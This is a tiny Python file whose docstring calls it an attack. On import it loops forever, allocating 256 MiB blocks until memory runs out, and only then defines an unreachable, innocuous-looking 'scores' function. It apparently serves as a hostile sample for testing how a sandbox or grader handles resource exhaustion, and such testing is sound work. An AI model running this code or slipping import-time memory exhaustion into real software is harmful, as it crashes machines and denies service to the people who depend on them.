"""Attack: grows a list of big blocks until memory runs out, at import."""
blocks = []
while True:
    blocks.append(bytearray(256 * 1024**2))


def scores(q, keys):
    return keys @ q
